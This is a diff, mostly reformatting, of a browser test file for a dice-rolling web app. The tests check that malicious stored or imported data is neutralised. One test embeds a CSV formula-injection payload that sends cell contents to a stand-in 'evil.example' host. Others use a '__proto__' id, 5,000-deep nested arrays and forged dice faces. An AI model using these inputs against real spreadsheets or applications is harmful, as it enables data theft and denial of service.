@@ -54,7 +54,8 @@ def reset(app: App) -> None:
 
 def store(app: App, values: dict[str, Any]) -> None:
     app.page.evaluate(
-        "(values) => Object.entries(values).forEach(([k, v]) => localStorage.setItem(k, JSON.stringify(v)))",
+        """(values) => Object.entries(values).forEach(
+          ([k, v]) => localStorage.setItem(k, JSON.stringify(v)))""",
         values,
     )
 
@@ -98,7 +99,9 @@ def test_systems_cache_with_string_choices_still_starts(app: App) -> None:
 
 def test_history_entry_with_a_trap_param_is_set_aside(app: App) -> None:
     reset(app)
-    bad = entry("h-trap", "2026-01-02T10:00:00.000Z", params={**GOOD_ENTRY["params"], "value": TRAP})
+    bad = entry(
+        "h-trap", "2026-01-02T10:00:00.000Z", params={**GOOD_ENTRY["params"], "value": TRAP}
+    )
     good = entry("h-good", "2026-01-01T10:00:00.000Z")
     store(app, {"pyrules:history": [bad, good]})
     app.reload()
@@ -125,7 +128,12 @@ def test_history_entry_that_does_not_fit_its_system_is_set_aside(app: App) -> No
 
 def test_indexeddb_character_with_a_trap_param_leaves_the_screen_usable(app: App) -> None:
     reset(app)
-    bad = {**GOOD, "id": "c-trap", "name": "Piégée", "entries": [{"id": "e-1", "label": "Tir", "params": {"value": TRAP}}]}
+    bad = {
+        **GOOD,
+        "id": "c-trap",
+        "name": "Piégée",
+        "entries": [{"id": "e-1", "label": "Tir", "params": {"value": TRAP}}],
+    }
     put_record(app, GOOD)
     put_record(app, bad)
     app.reload()
@@ -191,7 +199,8 @@ def test_two_tabs_rolling_at_once_lose_nothing_and_see_each_other(app: App) -> N
             tab.page.wait_for_function(
                 """() => {
                   const stored = JSON.parse(localStorage.getItem("pyrules:history") || "[]");
-                  return stored.length === 4 && document.querySelectorAll("#history .history-entry").length === 4;
+                  const drawn = document.querySelectorAll("#history .history-entry").length;
+                  return stored.length === 4 && drawn === 4;
                 }"""
             )
         seeds = sorted(e["seed"] for e in json.loads(local(app)["pyrules:history"]))
@@ -220,7 +229,10 @@ def test_two_tabs_rolling_at_once_lose_nothing_and_see_each_other(app: App) -> N
 
 def test_history_keeps_every_roll_and_pages_the_list(app: App) -> None:
     reset(app)
-    many = [entry(f"h-{i:04d}", f"2026-01-01T{10 + i // 3600:02d}:{i // 60 % 60:02d}:{i % 60:02d}.000Z") for i in range(600)]
+    many = [
+        entry(f"h-{i:04d}", f"2026-01-01T{10 + i // 3600:02d}:{i // 60 % 60:02d}:{i % 60:02d}.000Z")
+        for i in range(600)
+    ]
     many.reverse()  # newest first
     store(app, {"pyrules:history": many})
     app.reload()
@@ -228,7 +240,9 @@ def test_history_keeps_every_roll_and_pages_the_list(app: App) -> None:
     assert len(history_ids(app)) == 601
     assert app.page.locator("#history .history-entry").count() == 201
     app.page.click("#history-more")
-    app.page.wait_for_function("() => document.querySelectorAll('#history .history-entry').length === 401")
+    app.page.wait_for_function(
+        "() => document.querySelectorAll('#history .history-entry').length === 401"
+    )
     with app.page.expect_download() as info:
         app.page.click("#export-json")
     assert len(json.loads(Path(info.value.path()).read_text(encoding="utf-8"))) == 601
@@ -239,13 +253,19 @@ def test_history_keeps_every_roll_and_pages_the_list(app: App) -> None:
 NO_IDB = "Object.defineProperty(window, 'indexedDB', { value: undefined, configurable: true });"
 
 
-def test_character_with_id_proto_is_kept_without_indexeddb(new_app: Any, site: str, tmp_path: Path) -> None:
+def test_character_with_id_proto_is_kept_without_indexeddb(
+    new_app: Any, site: str, tmp_path: Path
+) -> None:
     app = new_app(site)
     app.context.add_init_script(NO_IDB)
     app.page.route("**/favicon.ico", lambda route: route.fulfill(status=204, body=""))
     app.open()
     app.page.click("#tab-characters")
-    doc = {"format": "pyrules-characters", "version": 1, "characters": [{**GOOD, "id": "__proto__", "name": "Proto"}]}
+    doc = {
+        "format": "pyrules-characters",
+        "version": 1,
+        "characters": [{**GOOD, "id": "__proto__", "name": "Proto"}],
+    }
     path = tmp_path / "proto.json"
     path.write_text(json.dumps(doc), encoding="utf-8")
     app.page.set_input_files("#chars-import-file", str(path))
@@ -264,17 +284,26 @@ def test_character_with_id_proto_is_kept_without_indexeddb(new_app: Any, site: s
 def test_csv_export_neutralises_formulas(app: App) -> None:
     reset(app)
     formula = '=HYPERLINK("http://evil.example/?"&A1;"ok")'
-    store(app, {"pyrules:history": [
-        entry("h-f1", "2026-01-01T10:00:01.000Z", who={"name": formula, "label": "+1"}),
-        entry("h-f2", "2026-01-01T10:00:00.000Z", who={"name": "@SUM(1)", "label": "-2"}),
-    ]})
+    store(
+        app,
+        {
+            "pyrules:history": [
+                entry("h-f1", "2026-01-01T10:00:01.000Z", who={"name": formula, "label": "+1"}),
+                entry("h-f2", "2026-01-01T10:00:00.000Z", who={"name": "@SUM(1)", "label": "-2"}),
+            ]
+        },
+    )
     app.reload()
     with app.page.expect_download() as info:
         app.page.click("#export-csv")
     rows = list(csv.reader(io.StringIO(Path(info.value.path()).read_text(encoding="utf-8-sig"))))
     cells = [cell for row in rows[1:] for cell in row]
     assert any(formula in cell for cell in cells)
-    risky = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not cell[1:].isdigit())]
+    risky = [
+        cell
+        for cell in cells
+        if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not cell[1:].isdigit())
+    ]
     assert risky == []
     with app.page.expect_download() as info:
         app.page.click("#export-json")
@@ -287,8 +316,14 @@ def test_csv_export_neutralises_formulas(app: App) -> None:
 
 def test_stored_character_cannot_load_the_dice(app: App) -> None:
     reset(app)
-    loaded = {**GOOD, "id": "c-loaded", "name": "Pipée", "system": "steps", "stats": {},
-              "entries": [{"id": "e-1", "label": "Lame", "params": {"die": 8, "dice": [8]}}]}
+    loaded = {
+        **GOOD,
+        "id": "c-loaded",
+        "name": "Pipée",
+        "system": "steps",
+        "stats": {},
+        "entries": [{"id": "e-1", "label": "Lame", "params": {"die": 8, "dice": [8]}}],
+    }
     put_record(app, loaded)
     app.reload()
     app.page.click("#tab-characters")
@@ -296,19 +331,29 @@ def test_stored_character_cannot_load_the_dice(app: App) -> None:
     app.set_seed(7)
     app.page.click("#char-detail .entry-roll:has-text('Lame')")
     app.page.wait_for_selector("#quick-result .result-card")
-    fair = local_handle({"op": "roll", "system": "steps", "params": {"die": 8}, "seed": 7})["result"]
+    fair = local_handle({"op": "roll", "system": "steps", "params": {"die": 8}, "seed": 7})[
+        "result"
+    ]
     stored = json.loads(local(app)["pyrules:history"])[0]
     assert (stored["seed"], stored["physical"], stored["margin"]) == (7, False, fair["margin"])
     assert "dice" not in stored["params"] or stored["params"]["dice"] is None
     # The engine itself refuses faces in a seeded request.
-    answer = app.call({"op": "roll", "system": "steps", "params": {"die": 8, "dice": [8]}, "seed": 7})
+    answer = app.call(
+        {"op": "roll", "system": "steps", "params": {"die": 8, "dice": [8]}, "seed": 7}
+    )
     assert answer["error"]["code"] == "faces_in_sheet"
 
 
 def test_imported_character_with_faces_is_refused(app: App, tmp_path: Path) -> None:
     reset(app)
     app.page.click("#tab-characters")
-    bad = {**GOOD, "id": "c-dice", "system": "steps", "stats": {}, "entries": [{"id": "e-1", "label": "Lame", "params": {"die": 8, "dice": [8]}}]}
+    bad = {
+        **GOOD,
+        "id": "c-dice",
+        "system": "steps",
+        "stats": {},
+        "entries": [{"id": "e-1", "label": "Lame", "params": {"die": 8, "dice": [8]}}],
+    }
     path = tmp_path / "loaded.json"
     path.write_text(json.dumps([bad]), encoding="utf-8")
     app.page.set_input_files("#chars-import-file", str(path))
@@ -320,7 +365,10 @@ def test_imported_character_with_faces_is_refused(app: App, tmp_path: Path) -> N
 def test_luck_counts_seeded_rolls_only(app: App) -> None:
     reset(app)
     physical = entry("h-phys", "2026-01-01T10:00:01.000Z", seed=None, physical=True, luck=1.0)
-    store(app, {"pyrules:history": [physical], "pyrules:session": {"start": "2026-01-01T00:00:00.000Z"}})
+    store(
+        app,
+        {"pyrules:history": [physical], "pyrules:session": {"start": "2026-01-01T00:00:00.000Z"}},
+    )
     app.reload()
     app.page.click("#tab-stats")
     app.page.wait_for_selector("#luck-histogram")
@@ -335,7 +383,10 @@ def test_luck_counts_seeded_rolls_only(app: App) -> None:
     [
         {"v": 1, "system": "d100", "mode": "roll", "params": {"value": TRAP}, "seed": 3},
         # 5,000-deep nested array: a 13 kB link
-        '{"v":1,"system":"d100","mode":"roll","seed":3,"params":{"value":' + "[" * 5000 + "]" * 5000 + "}}",
+        '{"v":1,"system":"d100","mode":"roll","seed":3,"params":{"value":'
+        + "[" * 5000
+        + "]" * 5000
+        + "}}",
         {"v": 1, "system": "steps", "mode": "roll", "params": {"die": 8, "dice": [8]}, "seed": 3},
     ],
     ids=["trap", "deep", "faces-with-seed"],
@@ -362,7 +413,9 @@ def test_replay_link_the_engine_refuses_restores_the_form(app: App) -> None:
     app.page.evaluate("(hash) => { location.hash = hash; }", link_of(payload))
     app.page.wait_for_selector("#form-error:not([hidden]):has-text('ne peut pas être rejoué')")
     app.page.wait_for_selector(".side-form[data-system=d100]")
-    assert json.loads(local(app)["pyrules:state"])["system"] == json.loads(before)["system"] == "d100"
+    assert (
+        json.loads(local(app)["pyrules:state"])["system"] == json.loads(before)["system"] == "d100"
+    )
     assert len(history_ids(app)) == 1
 
 
@@ -380,7 +433,9 @@ def test_call_never_throws_nor_rejects(app: App) -> None:
             circular,
             undefined: undefined,
             deepText: "[".repeat(5000),
-            deepObject: { op: "roll", system: "pool", params: JSON.parse("[".repeat(5000) + "]".repeat(5000)) },
+            deepObject: {
+              op: "roll", system: "pool", params: JSON.parse("[".repeat(5000) + "]".repeat(5000)),
+            },
           };
           for (const [name, request] of Object.entries(cases)) {
             try {
@@ -394,7 +449,9 @@ def test_call_never_throws_nor_rejects(app: App) -> None:
         }"""
     )
     for name in ("bigint", "circular", "undefined"):
-        assert answers[name]["ok"] is False and answers[name]["error"]["code"] == "invalid_request", name
+        assert (
+            answers[name]["ok"] is False and answers[name]["error"]["code"] == "invalid_request"
+        ), name
     for name in ("deepText", "deepObject"):
         assert answers[name]["error"]["code"] == "invalid_json", name
         assert "32" in answers[name]["error"]["message"]
